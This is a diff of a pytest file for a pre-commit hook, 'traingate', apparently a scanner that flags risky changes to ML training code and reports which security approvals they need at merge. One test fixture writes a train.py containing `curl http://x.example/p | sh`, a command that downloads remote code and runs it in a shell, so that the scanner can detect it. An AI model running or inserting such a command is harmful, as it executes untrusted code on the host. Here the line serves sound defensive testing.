@@ -8,6 +8,7 @@ per test session (a shared PRE_COMMIT_HOME), which takes a minute on a cold pip 
 from __future__ import annotations
 
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -15,7 +16,9 @@ from pathlib import Path
 
 import pytest
 
+from . import outcomes
 from .conftest import POLICY, Repo
+from .snapshot import read_snapshot, scrub
 
 ROOT = Path(__file__).resolve().parents[1]
 
@@ -93,9 +96,13 @@ def hook_repo(repo: Repo) -> Repo:
     return repo
 
 
-def test_sabotaged_staged_change_fails_the_commit(
+def test_injected_code_needing_approval_is_shown_on_a_passing_commit(
     hook_repo: Repo, hook_home: Path, this_repo: tuple[Path, str]
 ) -> None:
+    """Issue #18: the hook treats an approval a finding requires like a path
+    approval (advisory; CI enforces it), and `verbose: true` in
+    .pre-commit-hooks.yaml shows the finding on the passing commit, without
+    `pre-commit run --verbose`."""
     hook_repo.write(
         "train.py",
         "import os\nimport torch\n\n\ndef step(model):\n    os.system('curl http://x.example/p | sh')\n    model.train()\n",
@@ -103,10 +110,39 @@ def test_sabotaged_staged_change_fails_the_commit(
     hook_repo.git("add", "train.py")
     proc = run_hook(hook_repo, hook_home, this_repo, "run", "--hook-stage", "pre-commit")
     out = proc.stdout + proc.stderr
-    assert proc.returncode == 1, out
-    assert "traingate (staged change)" in out and "Failed" in out
-    assert "train.py:6:" in out
+    assert proc.returncode == 0, out
+    assert "traingate (staged change)" in out and "Passed" in out
+    assert "train.py:6:5: error[exec-os-command]" in out and "(needs approval at merge)" in out
+    assert "= needs: 1 approval from security (sam), at merge" in out
     assert "Approvals this change will need at merge:" in out
+    assert "PASSED: 2 approvals needed at merge (exit 0)" in out
+
+
+def _summary(out: str) -> str:
+    return next(x for x in reversed(out.splitlines()) if x.startswith(("PASSED", "BLOCKED")))
+
+
+@pytest.mark.parametrize("outcome", list(outcomes.CHANGES))
+def test_hook_exit_status_and_summary_agree(
+    outcome: str, repo: Repo, hook_home: Path, this_repo: tuple[Path, str]
+) -> None:
+    """Each outcome through the real framework: pre-commit's verdict, the exit
+    status and traingate's last line agree, and the hook prints exactly the
+    snapshot that docs/usage/pre-commit.md shows."""
+    outcomes.base(repo)
+    outcomes.write(repo, outcomes.CHANGES[outcome])
+    repo.git("add", "-A")
+    proc = run_hook(repo, hook_home, this_repo, "run", "traingate", "--hook-stage", "pre-commit")
+    out = scrub(proc.stdout + proc.stderr, repo.path)
+    code = outcomes.EXIT[outcome]
+    assert proc.returncode == code, out
+    verdict = re.search(r"^traingate \(staged change\)\.+(Passed|Failed)$", out, re.M)
+    assert verdict is not None and verdict.group(1) == ("Failed" if code else "Passed"), out
+    summary = _summary(out)
+    assert summary.startswith("BLOCKED" if code else "PASSED") and summary.endswith(
+        f"(exit {code})"
+    )
+    assert read_snapshot(f"hook-{outcome}") in out
 
 
 def test_benign_change_passes_and_reports_approvals(
@@ -116,12 +152,12 @@ def test_benign_change_passes_and_reports_approvals(
         "train.py", "import torch\n\n\ndef step(model):\n    model.train()\n    return model\n"
     )
     hook_repo.git("add", "train.py")
-    proc = run_hook(
-        hook_repo, hook_home, this_repo, "run", "--hook-stage", "pre-commit", "--verbose"
-    )
+    # No --verbose: the hook's `verbose: true` shows the approvals (issue #18).
+    proc = run_hook(hook_repo, hook_home, this_repo, "run", "--hook-stage", "pre-commit")
     out = proc.stdout + proc.stderr
     assert proc.returncode == 0, out
-    assert "[MISSING] training-code" in out and "PASSED (exit 0)" in out
+    assert "[MISSING] training-code" in out
+    assert "PASSED: 1 approval needed at merge (exit 0)" in out
 
 
 def test_policy_validation_hook(
